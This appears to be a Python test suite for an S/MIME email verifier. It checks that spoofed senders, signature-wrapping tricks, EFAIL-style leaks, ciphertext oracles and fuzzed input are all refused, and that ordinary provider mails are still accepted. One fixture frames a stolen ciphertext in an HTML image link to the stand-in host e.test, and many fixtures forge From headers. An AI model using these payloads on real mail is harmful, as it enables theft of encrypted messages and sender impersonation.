"""Attacks on letters: nothing forged is accepted as Alice's, nothing closed leaks, nothing foreign is raised.

Beside them stand ordinary mails of many kinds, which are not to be refused without cause.
"""

import base64
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from esign import EsignError, envelope, smime
from esign.mime import Entity, base64_leaf, field, multipart
from esign.smime import Opening, Verdict
from tests.esign.smime.letters import (
    AT,
    FROM,
    SECRET,
    TEXT,
    alice,
    bob,
    certificate,
    closed,
    codes,
    errors,
    header,
    judged,
    letter,
    mallory,
    multipart_signed,
    native,
    protected,
    shown,
    signature_part,
    signed,
    whole,
)

EVIL = b"Content-Type: text/plain\r\n\r\nsend the money to Mallory\r\n"
MALLORY = "Mallory Malice <mallory@e.test>"


def opaque_part(octets: bytes, kind: str = "enveloped-data") -> bytes:
    return base64_leaf(field("Content-Type", f"application/pkcs7-mime; smime-type={kind}"), octets)


def ciphertext(entity: bytes = SECRET, *, cipher: str = "aes-256-cbc") -> bytes:
    """The CMS octets of an envelope for Bob."""
    return envelope.encrypt(entity, [certificate(bob())], cipher=cipher)


def stolen(cipher: str = "aes-256-cbc") -> bytes:
    """The envelope of a letter that Alice signed, as an entity."""
    return closed(signed(SECRET), cipher=cipher)


# --- forged senders ---

FORGED: dict[str, Callable[[], bytes]] = {
    "signed-by-mallory": lambda: letter(by=mallory()),
    "opaque-by-mallory": lambda: letter(by=mallory(), opaque=True),
    "two-from": lambda: letter(head=field("From", MALLORY) + header(), by=mallory()),
    "from-after": lambda: letter(head=header(FROM, field("From", MALLORY)), by=mallory()),
    "from-with-space": lambda: whole(signed(by=mallory()), head=header(MALLORY, b"From : alice@a.test\r\n")),
    "two-mailboxes": lambda: letter(head=header(f"{FROM}, {MALLORY}"), by=mallory()),
    "unquoted-address-as-name": lambda: letter(head=header("alice@a.test <mallory@e.test>"), by=mallory()),
    "quoted-address-as-name": lambda: letter(head=header('"alice@a.test" <mallory@e.test>'), by=mallory()),
    "encoded-address-as-name": lambda: letter(
        head=header("=?utf-8?b?YWxpY2VAYS50ZXN0?= <mallory@e.test>"), by=mallory()
    ),
    "encoded-bracket": lambda: letter(
        head=header("=?utf-8?q?alice=40a=2Etest=3E?= <mallory@e.test>"), by=mallory()
    ),
    "encoded-word-in-address": lambda: letter(
        head=header("<=?utf-8?q?alice=40a.test=3e?=@e.test>"), by=mallory()
    ),
    "comment": lambda: letter(head=header("mallory@e.test (alice@a.test)"), by=mallory()),
    "group": lambda: letter(head=header("alice@a.test: mallory@e.test;"), by=mallory()),
    "route": lambda: letter(head=header("<@alice@a.test:mallory@e.test>"), by=mallory()),
    "sender-field": lambda: letter(head=header(FROM, field("Sender", MALLORY)), by=mallory()),
    "sender-is-alice": lambda: letter(head=header(MALLORY, field("Sender", FROM)), by=mallory()),
    "no-from": lambda: letter(head=header(None, field("Sender", FROM)), by=mallory()),
    "inner-from": lambda: whole(signed(field("From", MALLORY) + TEXT, by=mallory())),
    "inner-alice-outer-mallory": lambda: letter(field("From", FROM) + TEXT, by=mallory()),
}


@pytest.mark.parametrize("name", FORGED)
def test_no_forged_sender_is_accepted(name: str) -> None:
    found = judged(FORGED[name]())
    assert found.verdict is not Verdict.ACCEPTED
    assert errors(found)


def test_a_protected_sender_counts_and_not_the_one_outside() -> None:
    made = protected("clear")
    outside = header(MALLORY)
    assert judged(whole(signed(made.payload), head=outside)).verdict is Verdict.REFUSED
    assert judged(whole(signed(made.payload, by=mallory()), head=outside)).verdict is Verdict.REFUSED
    assert judged(whole(signed(made.payload, by=mallory()))).verdict is Verdict.REFUSED


# --- signatures that cover something else ---


def around(kind: str, *parts: bytes) -> bytes:
    return whole(multipart(kind, parts))


CONFUSED: dict[str, Callable[[], bytes]] = {
    "evil-beside-signed": lambda: around("mixed", EVIL, signed()),
    "signed-first": lambda: around("mixed", signed(), EVIL),
    "alternative": lambda: around("alternative", signed(), EVIL),
    "related": lambda: around("related", EVIL, signed(opaque=True)),
    "signed-in-attached-message": lambda: around(
        "mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" + letter()
    ),
    "attached-message-alone": lambda: whole(b"Content-Type: message/rfc822\r\n\r\n" + letter()),
    "preamble-only": lambda: whole(
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
        + signed()
        + b"\r\n--x\r\n"
        + EVIL
        + b"\r\n--x--\r\n"
    ),
    "signature-of-other-content": lambda: whole(
        multipart_signed(EVIL, signature_part(smime.read(signed()).signature or b""))
    ),
    "signed-inside-mallorys": lambda: whole(signed(multipart("mixed", (EVIL, signed())), by=mallory())),
    "third-part": lambda: whole(
        multipart_signed(TEXT, signature_part(smime.read(signed()).signature or b""), EVIL)
    ),
    "first-of-three": lambda: whole(
        multipart_signed(EVIL, TEXT, signature_part(smime.read(signed()).signature or b""))
    ),
    "epilogue": lambda: letter() + EVIL,
    "attached-content-in-detached": lambda: whole(
        multipart_signed(EVIL, signature_part(smime.read(signed(opaque=True)).signature or b""))
    ),
    "signature-in-mixed": lambda: around(
        "mixed", EVIL, signature_part(smime.read(signed()).signature or b"")
    ),
}


@pytest.mark.parametrize("name", CONFUSED)
def test_a_signature_that_does_not_cover_the_letter_is_no_signature_of_it(name: str) -> None:
    found = judged(CONFUSED[name]())
    assert found.verdict is not Verdict.ACCEPTED
    covered = [part for part in found.parts if part.coverage is smime.Coverage.LETTER]
    assert not any(b"send the money" in part.content for part in covered) or found.verdict is Verdict.REFUSED


# --- plaintext that must not get out ---

LEAKS: dict[str, Callable[[], bytes]] = {
    "direct-exfiltration": lambda: around(
        "mixed",
        b'Content-Type: text/html\r\n\r\n<img src="http://e.test/\r\n',
        stolen(),
        b'Content-Type: text/html\r\n\r\n">\r\n',
    ),
    "in-mallorys-signed-letter": lambda: whole(
        signed(multipart("mixed", (EVIL, stolen())), by=mallory()), head=header(MALLORY)
    ),
    "hidden-in-alternative": lambda: around("alternative", EVIL, stolen()),
    "in-attached-message": lambda: around(
        "mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" + whole(stolen())
    ),
    "attached-message-alone": lambda: whole(b"Content-Type: message/rfc822\r\n\r\n" + whole(stolen())),
    "in-an-envelope-of-mallory": lambda: whole(
        closed(signed(multipart("mixed", (EVIL, stolen())), by=mallory())), head=header(MALLORY)
    ),
    "under-mallorys-name": lambda: whole(stolen(), head=header(MALLORY)),
    "gcm-under-mallorys-name": lambda: whole(stolen("aes-256-gcm"), head=header(MALLORY)),
    "signed-outside-by-mallory": lambda: whole(signed(stolen(), by=mallory()), head=header(MALLORY)),
    "enveloped-again-by-mallory": lambda: whole(closed(stolen()), head=header(MALLORY)),
    "native-with-another-from": lambda: native().replace(b"alice@a.test", b"mallory@e.test", 1),
    "unsigned-cbc": lambda: whole(opaque_part(ciphertext())),
    "unsigned-cbc-signed-outside-by-mallory": lambda: whole(signed(opaque_part(ciphertext()), by=mallory())),
    "cbc-signed-by-nobody-known": lambda: whole(opaque_part(ciphertext(_broken_inner()))),
    "cbc-with-text-after": lambda: whole(opaque_part(ciphertext())) + b"\r\nhello\r\n",
    "cbc-preamble-gadget": lambda: whole(opaque_part(ciphertext(_beside_mallorys()))),
}


def _broken_inner() -> bytes:
    return signed(SECRET).replace(b"the word", b"the ward")


def _beside_mallorys() -> bytes:
    """What gadgets could make of a plaintext: Mallory's signed text, the secret where nothing covers it."""
    entity = Entity.read(signed(EVIL, by=mallory()))
    return entity.header_octets + b"\r\nthe word is opensesame\r\n" + entity.body


@pytest.mark.parametrize("name", LEAKS)
def test_no_plaintext_of_another_letter_is_given_away(name: str) -> None:
    found = judged(LEAKS[name]())
    assert b"opensesame" not in shown(found)
    assert found.verdict is not Verdict.ACCEPTED or found.sender.to_dict()["mailbox"] == "mallory@e.test"


def test_what_is_withheld_is_given_to_who_asks_for_it_by_an_unsafe_name() -> None:
    for name in ("unsigned-cbc", "under-mallorys-name", "signed-outside-by-mallory"):
        found = judged(LEAKS[name](), unsafe_release=True)
        assert b"opensesame" in shown(found)
        assert found.verdict is not Verdict.ACCEPTED
    assert b"opensesame" not in shown(judged(LEAKS["direct-exfiltration"](), unsafe_release=True))


def test_an_envelope_under_a_bad_signature_is_not_opened() -> None:
    outer = whole(signed(stolen("aes-256-gcm"))).replace(b"authEnveloped-data", b"AuthEnveloped-Data")
    found = judged(outer)
    assert (found.verdict, errors(found)) == (
        Verdict.REFUSED,
        ["signature-not-valid", "envelope-not-opened"],
    )
    assert found.envelopes[0].opening is Opening.NOT_TRIED


def test_a_good_signature_around_a_cbc_envelope_does_not_vouch_for_what_is_in_it() -> None:
    found = judged(whole(signed(opaque_part(ciphertext()))))
    assert (found.verdict, errors(found)) == (Verdict.UNDETERMINED, ["envelope-not-vouched"])
    assert b"opensesame" not in shown(found)
    inside = judged(whole(signed(stolen())))
    assert (inside.verdict, errors(inside)) == (Verdict.ACCEPTED, [])


# --- no oracle ---


def changes(octets: bytes) -> list[bytes]:
    """The last octets changed one by one."""
    places = range(len(octets) - 64, len(octets))
    return [octets[:at] + bytes((octets[at] ^ 1,)) + octets[at + 1 :] for at in places]


def test_every_change_of_a_cbc_envelope_gives_one_answer() -> None:
    others = (ciphertext(SECRET), ciphertext(b"\x00no entity\n"))
    answers = {str(judged(whole(opaque_part(one))).to_dict()) for one in (*changes(others[0]), *others)}
    assert len(answers) == 1


def test_mallory_learns_nothing_from_alices_ciphertext_under_a_good_signature_of_her_own() -> None:
    taken = ciphertext(signed(SECRET))
    answers = set()
    for one in (*changes(taken)[::2], ciphertext(SECRET), ciphertext(b"\x00no entity\n")):
        found = judged(whole(signed(opaque_part(one), by=mallory()), head=header(MALLORY)))
        answers.add((found.verdict, tuple(errors(found)), found.envelopes[0].opening, found.payload))
    assert answers == {(Verdict.UNDETERMINED, ("envelope-not-vouched",), Opening.NOT_VOUCHED, None)}


def test_every_change_of_a_gcm_envelope_gives_one_answer() -> None:
    octets = ciphertext(SECRET, cipher="aes-256-gcm")
    answers = set()
    for position in range(len(octets) - 48, len(octets), 3):
        changed = bytearray(octets)
        changed[position] ^= 1
        if not _is_still_cms(bytes(changed)):
            continue
        answers.add(str(judged(whole(opaque_part(bytes(changed), "authenveloped-data"))).to_dict()))
    assert len(answers) == 1
    assert "decryption-failed" in answers.pop()


def _is_still_cms(octets: bytes) -> bool:
    try:
        envelope.read_envelope(octets)
    except EsignError:
        return False
    return True


def test_a_broken_letter_in_an_authenticated_envelope_is_told_without_a_piece_of_it() -> None:
    found = judged(whole(opaque_part(ciphertext(b"opensesame \x01\r\n\r\nx", cipher="aes-256-gcm"), "")))
    assert found.verdict is Verdict.REFUSED
    assert b"opensesame" not in shown(found)


# --- hostile octets ---

LETTERS = {
    "signed": letter(),
    "opaque": letter(opaque=True),
    "native": native(),
    "cbc": native(cipher="aes-256-cbc"),
}


@pytest.mark.parametrize("name", LETTERS)
def test_truncated_anywhere_a_letter_is_judged_and_not_accepted(name: str) -> None:
    octets = LETTERS[name]
    step = max(1, len(octets) // 60)
    for length in range(0, len(octets) - 3, step):
        found = judged(octets[:length])
        assert found.verdict is not Verdict.ACCEPTED
        found.explain("ru")


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(LETTERS)), st.data())
def test_a_changed_letter_is_refused_or_says_the_same(name: str, data: st.DataObject) -> None:
    octets = bytearray(LETTERS[name])
    for _ in range(data.draw(st.integers(1, 3))):
        octets[data.draw(st.integers(0, len(octets) - 1))] = data.draw(st.integers(0, 255))
    found = judged(bytes(octets))
    found.to_dict()
    if found.verdict is Verdict.ACCEPTED:
        before = judged(LETTERS[name])
        assert [part.content for part in found.parts] == [part.content for part in before.parts]
        assert found.sender.mailbox is not None and found.sender.mailbox.key == "alice@a.test"


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200))
def test_any_octets_are_judged(octets: bytes) -> None:
    for message in (
        octets,
        whole(octets),
        whole(opaque_part(octets)),
        whole(opaque_part(ciphertext(octets, cipher="aes-256-gcm"), "authenveloped-data")),
        whole(multipart_signed(TEXT, signature_part(octets))),
        header(None, b"From: " + octets + b"\r\n") + b"\r\nx\r\n",
    ):
        assert judged(message).verdict is not Verdict.ACCEPTED


# --- what large providers send ---


def with_footer(entity: bytes) -> bytes:
    return around("mixed", entity, b"Content-Type: text/plain\r\n\r\n_____\r\nlist footer\r\n")


QUOTED = (
    b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    b"na=C3=AFve=20\r\n"
)
FLOWED = (
    b"Content-Type: text/plain; charset=UTF-8; format=flowed; delsp=yes\r\nContent-Language: en-US\r\n\r\n"
    b"hi \r\n-- \r\nA\r\n"
)
ASCII = b'Content-Type: text/plain;\r\n\tcharset="us-ascii"\r\nContent-Transfer-Encoding: 7bit\r\n\r\nhi\r\n'
EIGHT = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nсалом\r\n".encode()
LONG = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>" + b"x" * 5_000 + b"</p>\r\n"
OUTLOOK = multipart(
    "mixed",
    (
        multipart(
            "alternative", (ASCII, b'Content-Type: text/html; charset="us-ascii"\r\n\r\n<b>hi</b>\r\n')
        ),
        base64_leaf(
            b'Content-Type: application/pdf;\r\n\tname="=?utf-8?B?0LA=?=.pdf"\r\n'
            b"Content-Disposition: attachment;\r\n\tfilename*=utf-8''%D0%B0.pdf\r\n",
            b"%PDF" * 40,
        ),
    ),
)


def renamed(message: bytes, *changes: tuple[bytes, bytes]) -> bytes:
    for old, new in changes:
        assert old in message
        message = message.replace(old, new, 1) if new.endswith(b"--=_") else message.replace(old, new)
    return message


PROVIDERS: dict[str, tuple[Callable[[], bytes], Verdict]] = {
    "quoted-printable": (lambda: letter(QUOTED), Verdict.ACCEPTED),
    "format-flowed": (lambda: letter(FLOWED), Verdict.ACCEPTED),
    "us-ascii": (lambda: letter(ASCII), Verdict.ACCEPTED),
    "8bit": (lambda: letter(EIGHT), Verdict.ACCEPTED),
    "long-lines": (lambda: letter(LONG), Verdict.ACCEPTED),
    "attachments": (lambda: letter(OUTLOOK), Verdict.ACCEPTED),
    "opaque": (lambda: letter(opaque=True), Verdict.ACCEPTED),
    "opaque-without-smime-type": (
        lambda: renamed(letter(opaque=True), (b" smime-type=signed-data;", b"")),
        Verdict.ACCEPTED,
    ),
    "opaque-with-text-after": (
        lambda: letter(opaque=True) + b"\r\n\r\n-- \r\nlist footer\r\n",
        Verdict.ACCEPTED,
    ),
    "micalg-old-spelling": (
        lambda: renamed(letter(), (b"micalg=sha-256", b"micalg=SHA256")),
        Verdict.ACCEPTED,
    ),
    "micalg-quoted": (lambda: renamed(letter(), (b"micalg=sha-256", b'micalg="sha256"')), Verdict.ACCEPTED),
    "micalg-wrong": (lambda: renamed(letter(), (b"micalg=sha-256", b"micalg=sha1")), Verdict.ACCEPTED),
    "name-quoted": (lambda: renamed(letter(), (b"name=smime.p7s", b'name="smime.p7s"')), Verdict.ACCEPTED),
    "name-of-others": (
        lambda: renamed(letter(), (b"filename=smime.p7s", b'filename="Email Signature.p7s"')),
        Verdict.ACCEPTED,
    ),
    "x-pkcs7": (
        lambda: renamed(letter(), (b"application/pkcs7-signature", b"application/x-pkcs7-signature")),
        Verdict.ACCEPTED,
    ),
    "x-pkcs7-mime": (
        lambda: renamed(letter(opaque=True), (b"application/pkcs7-mime", b"application/x-pkcs7-mime")),
        Verdict.ACCEPTED,
    ),
    "mixed-spelling": (
        lambda: renamed(
            letter(), (b'protocol="', b'protocol="'), (b"application/pkcs7", b"application/PKCS7")
        ),
        Verdict.ACCEPTED,
    ),
    "content-type-over-lines": (
        lambda: renamed(
            letter(), (b"Content-Type: multipart/signed;", b"Content-Type: multipart/signed;\r\n\t")
        ),
        Verdict.ACCEPTED,
    ),
    "trace-fields": (
        lambda: (
            b"Return-Path: <alice@a.test>\r\n"
            b"Received: from a.test by b.test;\r\n Mon, 23 Nov 2026 12:00:01 +0000\r\n"
            b"DKIM-Signature: v=1; a=rsa-sha256; d=a.test; s=x; bh=x; b=x\r\n" + letter()
        ),
        Verdict.ACCEPTED,
    ),
    "x-headers-after": (
        lambda: letter(head=header(FROM, b"X-MS-Has-Attach: yes\r\nThread-Index: x\r\n")),
        Verdict.ACCEPTED,
    ),
    "trailing-blank-lines": (lambda: letter() + b"\r\n\r\n", Verdict.ACCEPTED),
    "preamble": (
        lambda: renamed(letter(), (b"\r\n\r\n--=_", b"\r\n\r\nThis is an S/MIME signed message\r\n\r\n--=_")),
        Verdict.ACCEPTED,
    ),
    "list-footer": (lambda: with_footer(signed()), Verdict.UNDETERMINED),
    "list-footer-opaque": (lambda: with_footer(signed(opaque=True)), Verdict.UNDETERMINED),
    "list-footer-after": (lambda: letter() + b"_____\r\nlist footer\r\n", Verdict.UNDETERMINED),
    "list-sender": (
        lambda: letter(head=header(FROM, b"Sender: list-bounces@l.test\r\nList-Id: <l.l.test>\r\n")),
        Verdict.UNDETERMINED,
    ),
    "on-behalf": (
        lambda: letter(head=header('"Per conto di: carol@c.test" <mallory@e.test>'), by=mallory()),
        Verdict.UNDETERMINED,
    ),
    "exchange-octet-stream": (
        lambda: renamed(
            letter(opaque=True),
            (b"application/pkcs7-mime; smime-type=signed-data;", b"application/octet-stream;"),
        ),
        Verdict.ACCEPTED,
    ),
}


@pytest.mark.parametrize("name", PROVIDERS)
def test_an_ordinary_signed_mail_is_not_refused_without_cause(name: str) -> None:
    make, expected = PROVIDERS[name]
    found = judged(make())
    assert found.verdict is expected, codes(found)


@pytest.mark.parametrize("name", ["signed", "opaque"])
def test_gadgets_of_base64_do_not_hide_content(name: str) -> None:
    hidden = base64.b64encode(EVIL)
    found = judged(LETTERS[name] + hidden + b"\r\n")
    assert b"send the money" not in b"".join(part.content for part in found.parts)
    assert found.verdict is not Verdict.ACCEPTED or name == "opaque"


def test_the_judges_time_is_the_argument() -> None:
    assert judged(letter()).at == AT
    assert certificate(alice()).emails == ("alice@a.test",)
